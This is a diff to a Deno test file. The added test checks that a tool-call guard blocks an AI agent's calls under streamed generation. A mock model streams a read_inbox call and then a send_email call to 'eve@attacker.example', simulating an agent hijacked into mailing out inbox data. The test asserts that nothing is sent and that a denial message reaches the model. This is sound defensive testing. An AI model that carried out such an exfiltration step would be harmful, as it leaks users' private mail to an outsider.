@@ -1,5 +1,5 @@
 import assert from "node:assert/strict";
-import { generateText, isStepCount, type ModelMessage, tool } from "npm:ai@7.0.173";
+import { generateText, isStepCount, type ModelMessage, simulateReadableStream, streamText, tool } from "npm:ai@7.0.173";
 import { MockLanguageModelV4 } from "npm:ai@7.0.173/test";
 import * as z from "npm:zod@4.6.7";
 import { Guard, parsePolicy, ToolCallDenied } from "../guard/mod.ts";
@@ -153,4 +153,53 @@ Deno.test("guardTools() executes nothing the guard denies, even when execute is 
     ToolCallDenied,
   );
   assert.deepEqual(sent, []);
+});
+
+Deno.test("guardTools() guards streamText the same way", async () => {
+  const guard = new Guard(parsePolicy(POLICY("block")));
+  guard.user(PROMPT);
+  const sent: string[] = [];
+  const { tools, toolApproval } = guardTools(guard, inboxTools(sent));
+  const usage = {
+    inputTokens: { total: 1, noCache: 1, cacheRead: 0, cacheWrite: 0 },
+    outputTokens: { total: 1, text: 1, reasoning: 0 },
+  };
+  const calls = [
+    [{ id: "c1", tool: "read_inbox", input: {} }],
+    [{ id: "c2", tool: "send_email", input: { to: "eve@attacker.example" } }],
+  ];
+  const model = new MockLanguageModelV4({
+    doStream: [...calls, "Done."].map((step) => ({
+      stream: simulateReadableStream({
+        chunks: [
+          { type: "stream-start" as const, warnings: [] },
+          ...(typeof step === "string"
+            ? [
+              { type: "text-start" as const, id: "t" },
+              { type: "text-delta" as const, id: "t", delta: step },
+              { type: "text-end" as const, id: "t" },
+            ]
+            : step.map((call) => ({
+              type: "tool-call" as const,
+              toolCallId: call.id,
+              toolName: call.tool,
+              input: JSON.stringify(call.input),
+            }))),
+          {
+            type: "finish" as const,
+            finishReason: {
+              unified: typeof step === "string" ? "stop" as const : "tool-calls" as const,
+              raw: undefined,
+            },
+            usage,
+          },
+        ],
+      }),
+    })),
+  });
+  const result = streamText({ model, tools, toolApproval, prompt: PROMPT, stopWhen: isStepCount(5) });
+  assert.equal(await result.text, "Done.");
+  assert.deepEqual(sent, []);
+  const prompt = JSON.stringify(model.doStreamCalls.at(-1)!.prompt);
+  assert.match(prompt, /pab denied this call: send_email: block/);
 });
